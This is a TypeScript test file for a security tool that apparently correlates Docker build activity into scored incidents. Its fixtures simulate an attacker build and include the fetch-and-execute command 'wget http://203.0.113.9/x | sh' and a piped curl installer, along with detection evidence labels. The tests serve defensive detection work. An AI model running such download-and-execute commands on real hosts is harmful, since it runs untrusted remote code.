import { describe, expect, it } from 'vitest';
import type { Alerts, ImageBuilds } from '../model/generated/tables.js';
import { createCorrelator } from './correlator.js';
import { readBuildDetails } from './details.js';
import { fold, settle, type Told, tell } from './fixtures/fold.js';
import { batchOf, begin, executor, id64, image, Story, second } from './fixtures/host.js';
import * as stories from './fixtures/stories.js';

function only<T>(values: Iterable<T>): T {
  const list = [...values];
  expect(list).toHaveLength(1);
  return list[0] as T;
}

function evidenceOf(told: Told): Record<string, number> {
  const { Evidence } = only(told.incidents.values());
  return Object.fromEntries(
    (Evidence as { Id: string; Weight: number }[]).map(({ Id, Weight }) => [Id, Weight]),
  );
}

function buildOf(told: Told, tag: string): ImageBuilds {
  return only([...told.builds.values()].filter(({ Tags }) => (Tags as string[]).includes(tag)));
}

describe('a classic build by an attacker', () => {
  const told = fold(stories.classicAttack(), { until: 60 });
  const build = only(told.builds.values());

  it('is one build with its requester, step, image and container', () => {
    expect(build).toMatchObject({
      Builder: 'classic',
      State: 'succeeded',
      AccountName: 'mallory',
      AuditUserId: 1000,
      ContextPath: '/tmp/x',
      DockerfilePath: '/tmp/x/Dockerfile',
      DockerfileSource: 'client',
      Tags: ['evil:latest'],
      ImageId: image(3),
      StepCount: 1,
      ContainerIds: [id64(60)],
      RemoteAddresses: [
        { RemoteIP: '203.0.113.9', RemotePort: 8000, StepIndex: 0, FileName: 'wget' },
      ],
    });
    const step = only(told.steps.values());
    expect(step).toMatchObject({ Command: stories.payload, ExitCode: 0, ContainerId: id64(50) });
  });

  it('keeps the values of build arguments to itself', () => {
    expect(JSON.stringify([...told.builds.values(), ...told.incidents.values()])).not.toContain(
      'hunter2',
    );
    expect(build.RequesterCommandLine).toContain('TOKEN=***');
  });

  it('is a high incident whose evidence adds up', () => {
    expect(evidenceOf(told)).toEqual({
      'temp-path': 3,
      'dockerfile-in-temp': 0,
      'shell-parent': 2,
      'step-external': 1,
      'raw-address': 2,
      'download-executed': 3,
      'container-started': 2,
    });
    expect(only(told.incidents.values())).toMatchObject({
      Severity: 'High',
      Score: 13,
      Confidence: 'High',
      Unknowns: [],
      BuildId: build.BuildId,
    });
  });
});

describe('a BuildKit build by an attacker', () => {
  const told = fold(stories.buildkitAttack(), { until: 60 });

  it('is one build, though the client runs a plugin', () => {
    const build = only(told.builds.values());
    expect(build).toMatchObject({
      Builder: 'buildkit',
      RequesterFileName: 'docker',
      ImageId: image(3),
    });
    expect(only(told.steps.values())).toMatchObject({
      ContainerId: executor(50),
      Command: stories.payload,
    });
    expect(evidenceOf(told)).toMatchObject({ 'dangerous-container': 3 });
    expect(only(told.incidents.values())).toMatchObject({ Severity: 'Critical' });
  });
});

describe('builds that are no incident, or a small one', () => {
  it('an ordinary build from a shell, then run', () => {
    const told = fold(stories.benign(), { until: 60 });
    expect(only(told.builds.values())).toMatchObject({ StepCount: 2, ContainerIds: [id64(60)] });
    expect(told.incidents.size).toBe(0);
  });

  it('one that installs packages and an installer over HTTPS, from a temporary directory, then run', () => {
    const story = new Story();
    const client = story.exec(1, story.bash, ['docker', 'build', '-t', 'dev', '/tmp/dev']);
    const command = 'curl -fsSL https://get.example.org/install.sh | sh';
    const shell = story.classicStep(1.5, 3, 50, 1, command);
    const curl = story.exec(1.7, shell, ['curl', '-fsSL', 'https://get.example.org/install.sh'], {
      container: id64(50),
    });
    story.connect(1.8, curl, '198.51.100.7', 443, id64(50));
    story.image(
      3.4,
      'ImageTagged',
      image(3),
      stories.tagged('dev:latest', [command], 3, { BuildContainerId: id64(50) }),
    );
    story.exit(3.5, client);
    story.run(5, 60, 3, 'dev');
    const told = fold(story, { rows: stories.sorted(story), until: 60 });
    expect(only(told.incidents.values())).toMatchObject({ Severity: 'Medium', Score: 9 });
  });
});

describe('two builds at once', () => {
  const told = fold(stories.twoAtOnce(), { until: 60 });

  it('get their own steps, connections and images', () => {
    expect(buildOf(told, 'evil:latest')).toMatchObject({
      StepCount: 1,
      ImageId: image(3),
      RemoteAddresses: [{ RemoteIP: '203.0.113.9' }],
    });
    expect(buildOf(told, 'shop:latest')).toMatchObject({
      StepCount: 2,
      ImageId: image(4),
      RemoteAddresses: [{ RemoteIP: '198.51.100.7' }],
    });
    expect(only(told.incidents.values()).BuildId).toBe(buildOf(told, 'evil:latest').BuildId);
  });

  it('leave open what cannot be told, and say so', () => {
    const story = new Story();
    const first = story.exec(1, story.bash, ['docker', 'build', '-t', 'one', '/tmp/one']);
    const other = story.exec(1.1, story.bash, ['docker', 'build', '-t', 'two', '/tmp/two']);
    story.buildkitStep(1.5, 3, 50, 'wget http://203.0.113.9/x | sh');
    story.exit(3.5, first);
    story.exit(3.6, other);
    const undecided = fold(story, { rows: stories.sorted(story), until: 60 });
    expect(undecided.steps.size).toBe(0);
    for (const build of undecided.builds.values()) {
      expect(readBuildDetails(build.AdditionalFields).UndecidedSteps).toMatchObject([
        { ContainerId: executor(50) },
      ]);
    }
  });
});

describe('builds that nobody here asked for', () => {
  it('are told from their steps, with the remote address that connected', () => {
    const told = fold(stories.remoteApi(), { until: 400 });
    const build = only(told.builds.values());
    expect(build).toMatchObject({
      State: 'succeeded',
      StepCount: 2,
      AccountName: '',
      RequesterProcessId: null,
    });
    expect(evidenceOf(told)).toMatchObject({ 'remote-requester': 3 });
  });

  it('are given to the only client connected', () => {
    const build = only(fold(stories.curlClient(), { until: 400 }).builds.values());
    expect(build).toMatchObject({
      RequesterFileName: 'curl',
      AccountName: 'mallory',
      ImageId: image(3),
    });
  });

  it('say that the requester is unknown when two clients were connected', () => {
    const story = stories.curlClient();
    const python = story.exec(0.5, story.bash, ['python3', 'agent.py']);
    story.socket(0.6, python);
    const told = fold(story, { rows: stories.sorted(story), until: 400 });
    expect(only(told.builds.values())).toMatchObject({ RequesterFileName: '' });
    expect(only(told.incidents.values()).Unknowns).toContain(
      'Who asked for the build: no client on this host accounts for it.',
    );
  });
});

describe('a failed build', () => {
  it('had its download all the same', () => {
    const told = fold(stories.failed(), { until: 60 });
    expect(only(told.builds.values())).toMatchObject({ State: 'failed', ImageId: '' });
    expect(only(told.steps.values())).toMatchObject({ ExitCode: 1 });
    expect(evidenceOf(told)).toMatchObject({ 'download-executed': 3 });
  });

  it('is canceled when its client was told to stop', () => {
    const story = new Story();
    const client = story.exec(1, story.bash, ['docker', 'build', '.']);
    story.exit(2, client, null, 2);
    const told = fold(story, { rows: stories.sorted(story), until: 60 });
    expect(only(told.builds.values())).toMatchObject({ State: 'canceled' });
  });
});

describe('an image without a tag', () => {
  it('is found by the container it was made from, and its container too', () => {
    const told = fold(stories.untagged(), { until: 60 });
    expect(only(told.builds.values())).toMatchObject({
      ImageId: image(3),
      ContainerIds: [id64(60)],
      Tags: [],
    });
  });
});

describe('what comes of an image', () => {
  it('ties containers of images built on it, committed from it, or holding its layers', () => {
    const story = stories.classicAttack();
    story.image(10, 'ImageTagged', image(7), {
      ...stories.tagged('child:latest', [stories.payload, 'true'], 9.9),
      ParentImageId: image(6),
    });
    story.image(10.5, 'ImageCommitted', image(8), {
      BuildContainerId: id64(60),
      ImageCreationTime: begin + 10.5 * second,
    });
    story.run(12, 61, 7, 'child');
    story.run(13, 62, 8, 'committed');
    story.run(14, 63, 9, 'stranger');
    const told = fold(story, { rows: stories.sorted(story), until: 60 });
    expect(buildOf(told, 'evil:latest').ContainerIds).toEqual([id64(60), id64(61), id64(62)]);
    const { Containers } = readBuildDetails(buildOf(told, 'evil:latest').AdditionalFields);
    expect(Containers.map(({ Basis }) => Basis)).toEqual([
      'its image',
      'an image that holds its layers',
      'an image made from it',
    ]);
  });
});

describe('a name that another image had just before', () => {
  const story = stories.classicAttack();
  const before = { ImageReference: 'evil:latest', ImageReferences: ['evil:latest'] };
  story.image(0.8, 'ImageTagged', image(5), before);
  story.run(12, 61, 5, 'other');

  it('is not the build’s, nor what was run of it', () => {
    const told = fold(story, { rows: stories.sorted(story), until: 60 });
    const build = buildOf(told, 'evil:latest');
    expect(build.ContainerIds).toEqual([id64(60)]);
    expect(readBuildDetails(build.AdditionalFields).ImageIds).not.toContain(image(5));
  });
});

describe('a client whose exit was missed', () => {
  const story = new Story();
  const lost = story.exec(1, story.bash, ['docker', 'build', '-t', 'first', '/src']);
  story.dockerfile(lost, '/src/Dockerfile', 'FROM alpine\nRUN make\n');
  story.buildkitStep(2, 3, 50, 'make');
  story.image(3.1, 'ImageTagged', image(3), stories.tagged('first:latest', ['make'], 3, {}, true));
  story.add('SensorEvents', {
    TimeGenerated: begin + 9 * second,
    DeviceId: 'host-1',
    DeviceName: 'host',
    ActionType: 'Gap',
    Sensor: 'watcher',
    GapStart: begin + 3.2 * second,
    GapEnd: begin + 9 * second,
    Reason: 'Keelwatch was not running',
  });
  const client = story.exec(20, story.bash, ['docker', 'build', '-t', 'second', '/src']);
  story.dockerfile(client, '/src/Dockerfile', 'FROM alpine\nRUN make\n');
  story.buildkitStep(21, 22, 51, 'make');
  story.image(
    22.1,
    'ImageTagged',
    image(4),
    stories.tagged('second:latest', ['make'], 22, {}, true),
  );
  story.exit(22.3, client);
  const told = fold(story, { rows: stories.sorted(story), until: 100 });
  const builds = [...told.builds.values()].sort((a, b) => a.TimeGenerated - b.TimeGenerated);

  it('is over once its image is there', () => {
    expect(builds).toMatchObject([{ State: 'succeeded' }, { State: 'succeeded' }]);
  });

  it('takes no step from a later build of the same Dockerfile', () => {
    expect(builds).toMatchObject([{ StepCount: 1 }, { StepCount: 1 }]);
  });
});

it('takes a plugin whose parent has been forgotten for no other client', () => {
  const correlator = createCorrelator();
  const story = stories.buildkitAttack();
  const told = fold(story, { correlator, until: 400 });
  // What is as old as 420 s is forgotten: the parent began 20 ms before its plugin.
  for (const at of [420.91, 422]) {
    const later = new Story();
    later.rows.length = 0;
    later.image(at, 'ImagePulled', image(90));
    fold(later, { correlator, told });
  }
  expect(only(told.builds.values()).RequesterFileName).toBe('docker');
});

describe('a restart', () => {
  const story = stories.classicAttack();
  const before = story.rows.filter(({ row }) => row.TimeGenerated < begin + 4.5 * second);
  const after = story.rows.filter(({ row }) => row.TimeGenerated >= begin + 4.5 * second);
  const stored = (told: Told) => ({
    ImageBuilds: [...told.builds.values()],
    ImageBuildSteps: [...told.steps.values()],
    Incidents: [...told.incidents.values()],
  });

  it('between build and run changes nothing', () => {
    const first = fold(story, { rows: before });
    const correlator = createCorrelator();
    correlator.restore({ ...batchOf(before), ...stored(first) });
    const bare = Object.assign(new Story(), { dockerfiles: [] });
    const told = fold(bare, { rows: after, correlator, told: first, until: 60 });
    const whole = fold(stories.classicAttack(), { until: 60 });
    const strip = (row: ImageBuilds) => ({ ...row, UpdatedTime: undefined });
    expect(strip(only(told.builds.values()))).toEqual(strip(only(whole.builds.values())));
    expect(evidenceOf(told)).toEqual(evidenceOf(whole));
  });

  it('with more processes than are read again takes no request for another build', () => {
    const asked = new Story();
    const client = asked.exec(1, asked.bash, ['docker', 'build', '-t', 'shop', '.']);
    asked.request(
      1.1,
      'POST',
      '/build',
      { t: ['shop'] },
      { ClientProcessId: client.pid, ClientFileName: 'docker' },
    );
    asked.exit(5, client);
    const first = fold(asked, { until: 60 });
    const correlator = createCorrelator();
    const later = asked.rows.filter(({ table }) => table === 'DockerApiEvents');
    correlator.restore({ ...batchOf(later), ...stored(first) });
    const told = fold(new Story(), { correlator, told: first, until: 900 });
    expect(only(told.builds.values()).RequesterFileName).toBe('docker');
  });

  it('with a plugin, and not its parent, takes that for no other client', () => {
    const asked = stories.buildkitAttack();
    const first = fold(asked, { until: 60 });
    const plugin = asked.rows.filter(
      ({ row }) => 'FileName' in row && row.FileName === 'docker-buildx',
    );
    const correlator = createCorrelator();
    correlator.restore({ ...batchOf(plugin), ...stored(first) });
    const told = fold(new Story(), { correlator, told: first, until: 900 });
    expect(only(told.builds.values()).RequesterFileName).toBe('docker');
  });

  it('long after the build, with nothing but stored builds, ties the container to it', () => {
    const first = fold(story, { rows: before });
    const correlator = createCorrelator();
    correlator.restore(stored(first));
    const month = new Story();
    month.run(30 * 86_400, 77, 3, 'evil', { IsPrivileged: true });
    const told = fold(month, { correlator, told: first });
    expect(only(told.builds.values()).ContainerIds).toEqual([id64(77)]);
    expect(evidenceOf(told)).toMatchObject({ 'dangerous-container': 3, 'download-executed': 3 });
    expect(evidenceOf(told)).not.toHaveProperty('container-started');
  });
});

describe('alerts', () => {
  const alert = (id: string, time: number, ResultRow: Alerts['ResultRow']): Alerts => ({
    TimeGenerated: begin + time * second,
    DeviceId: 'host-1',
    AlertId: id,
    RuleId: 'build-image-on-host',
    ResultRow: ResultRow ?? null,
  });

  it('are tied to the build of the process, file or address that they name', () => {
    const story = stories.classicAttack();
    const client = story.rows.find(
      ({ table, row }) => table === 'DeviceProcessEvents' && row.FileName === 'docker',
    );
    const processId =
      client?.table === 'DeviceProcessEvents' ? (client.row.ProcessId ?? null) : null;
    const correlator = createCorrelator();
    const told = fold(story, { correlator });
    const now = begin + 20 * second;
    const alerts = [
      alert('a1', 1, { ProcessId: processId }),
      alert('a2', 0.1, { FolderPath: '/tmp/x/Dockerfile' }),
      alert('a3', 2, { RemoteIP: '203.0.113.9' }),
      alert('a4', 2, { RemoteIP: '203.0.113.10' }),
      alert('a5', 5.3, { ContainerId: id64(60) }),
    ];
    tell(told, correlator.fold({}, alerts, now));
    settle(correlator, told, now, now + 60 * second);
    const { BuildId } = only(told.builds.values());
    const tied = [...told.alerts.values()].filter(
      (row) => row.BuildId === BuildId && row.IncidentId,
    );
    expect(tied.map(({ AlertId }) => AlertId).sort()).toEqual(['a1', 'a2', 'a3', 'a5']);
    expect(told.alerts.get('a4')).toMatchObject({ AlertId: 'a4' });
    expect(only(told.incidents.values())).toMatchObject({
      Score: 13,
      AlertIds: ['a1', 'a2', 'a3', 'a5'],
    });
  });
});

describe('hosts', () => {
  it('are kept apart, though their process ids meet', () => {
    const story = stories.classicAttack();
    const other = stories.classicAttack();
    for (const { row } of other.rows) row.DeviceId = 'host-2';
    story.rows.push(...other.rows);
    const told = fold(story, { rows: stories.sorted(story), until: 60 });
    expect([...told.builds.values()].map(({ DeviceId }) => DeviceId).sort()).toEqual([
      'host-1',
      'host-2',
    ]);
    expect(told.incidents.size).toBe(2);
  });
});

describe('builds of one Dockerfile, one after the other', () => {
  it('keep their steps apart, also when the second is no known client', () => {
    const story = new Story();
    const command = 'make all';
    const first = story.exec(1, story.bash, ['docker', 'build', '-t', 'one', '/src']);
    story.dockerfile(first, '/src/Dockerfile', `FROM alpine\nRUN ${command}\n`);
    story.classicStep(1.2, 2, 50, 1, command);
    story.exit(2.3, first);
    const again = story.exec(2.4, story.bash, ['docker', 'build', '-t', 'two', '/src']);
    story.dockerfile(again, '/src/Dockerfile', `FROM alpine\nRUN ${command}\n`);
    story.classicStep(2.6, 3, 51, 1, command);
    story.exit(3.2, again);
    const curl = story.exec(3.21, story.bash, [
      'curl',
      '--unix-socket',
      '/run/docker.sock',
      'http://d/build',
    ]);
    story.socket(3.22, curl);
    story.classicStep(3.28, 4, 52, 1, command);
    story.exit(4.2, curl);
    const told = fold(story, { rows: stories.sorted(story), until: 200 });
    const byRequester = [...told.builds.values()].map((build) => [
      build.RequesterProcessId,
      [...told.steps.values()]
        .filter(({ BuildId }) => BuildId === build.BuildId)
        .map(({ ContainerId }) => ContainerId),
    ]);
    expect(byRequester).toEqual([
      [first.pid, [id64(50)]],
      [again.pid, [id64(51)]],
      [curl.pid, [id64(52)]],
    ]);
  });
});

describe('a BuildKit build that is broken off', () => {
  it('is told from a failed one by its killed step', () => {
    const story = new Story();
    const client = story.exec(1, story.bash, ['docker', 'build', '/src']);
    story.buildkitStep(1.2, 3, 50, 'sleep 20', 137);
    story.exit(3.1, client, 1);
    const told = fold(story, { rows: stories.sorted(story), until: 60 });
    expect(only(told.builds.values())).toMatchObject({ State: 'canceled' });
  });
});

describe('what was told before a restart', () => {
  it('is not told again', () => {
    const story = stories.classicAttack();
    const first = fold(story, { until: 60 });
    const correlator = createCorrelator();
    correlator.restore({
      ...batchOf(story.rows),
      ImageBuilds: [...first.builds.values()],
      ImageBuildSteps: [...first.steps.values()],
      Incidents: [...first.incidents.values()],
      BuildBaseline: [...first.baseline.values()],
    });
    expect(correlator.fold({}, [], begin + 70 * second)).toEqual({});
  });
});
